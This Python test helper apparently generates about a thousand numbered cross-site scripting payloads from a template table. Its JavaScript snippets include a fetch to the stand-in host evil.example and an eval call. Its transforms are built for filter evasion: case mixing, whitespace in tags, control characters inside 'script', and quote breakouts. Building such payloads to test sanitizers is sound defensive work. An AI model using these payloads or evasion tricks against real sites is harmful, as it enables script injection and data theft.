"""A thousand texts that would run something if any place let them, made of a small table."""

from __future__ import annotations

import itertools
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from functools import cache
from pathlib import Path

MANY, FEW = 1000, 50
#: Nobody may ever ask for anything at this host.
OUTSIDE = "evil.example"
#: What would be noticed: a dialog, something left behind, a request, another title.
CALLS = (
    "alert({n})",
    "window.ran={n}",
    "fetch('//evil.example/{n}')",
    "document.title='ran'+{n}",
    "eval('alert({n})')",
    "top.ran={n}",
)


def _same(text: str) -> str:
    return text


def _mixed(text: str) -> str:
    """Write names of tags and attributes in another case, as browsers do not mind."""
    swap = [each.upper() if at % 2 else each for at, each in enumerate(text.split("="))]
    return "=".join(swap).replace("ALERT", "alert").replace("WINDOW.RAN", "window.ran")


def _spaced(text: str) -> str:
    return text.replace("<img ", "<img\n").replace("<svg ", "<svg\t").replace("<script", "<script ")


def _controlled(text: str) -> str:
    """Put a character in that many filters forget and some browsers skip."""
    return text.replace("script", "scr\x01ipt", 1) if "script" in text else f"\x0b{text}\x7f"


def _quoted(text: str) -> str:
    return f"'\"`{text}"


TWISTS: Sequence[Callable[[str], str]] = (_same, _quoted, _mixed, _spaced, _controlled)


@cache
def lines() -> tuple[str, ...]:
    """Return what the table has, one of each part after the other."""
    parts: list[list[str]] = []
    table = Path(__file__).with_name("table.txt").read_text(encoding="utf-8")
    for line in table.split("\n"):
        if line.startswith("[") and line.endswith("]") and line[1:-1].isalpha():
            parts.append([])
        elif parts and line:
            parts[-1].append(line)
    turns = itertools.zip_longest(*parts)
    return tuple(line for turn in turns for line in turn if line is not None)


@cache
def payloads(count: int) -> tuple[str, ...]:
    """Return so many of them, each with a number of its own."""
    made = dict.fromkeys(itertools.islice(_made(), count))
    assert len(made) == count
    return tuple(made)


def _made() -> Iterator[str]:
    numbers = itertools.count(1)
    for round_ in itertools.count():
        for at, line in enumerate(lines()):
            number = next(numbers)
            call = CALLS[(round_ + at) % len(CALLS)].replace("{n}", str(number))
            text = line.replace("{js}", call).replace("{url}", f"//{OUTSIDE}/{number}")
            yield f"{TWISTS[round_ % len(TWISTS)](text.replace('{n}', str(number)))} p{number}"


def packed(some: Sequence[str], room: int, between: str) -> Iterator[str]:
    """Yield texts of at most so many characters that hold all of these, many to a text."""
    text = ""
    for each in some:
        if text and len(text) + len(between) + len(each) > room:
            yield text
            text = ""
        text = f"{text}{between}{each}" if text else each[:room]
    if text:
        yield text


def tidy(text: str) -> str:
    """Return the text as documented: composed, without control characters, runs of space as one."""
    composed = unicodedata.normalize("NFC", text)
    shown = (c for c in composed if c in "\n\t\r" or unicodedata.category(c) not in ("Cc", "Cs"))
    return " ".join("".join(shown).split())
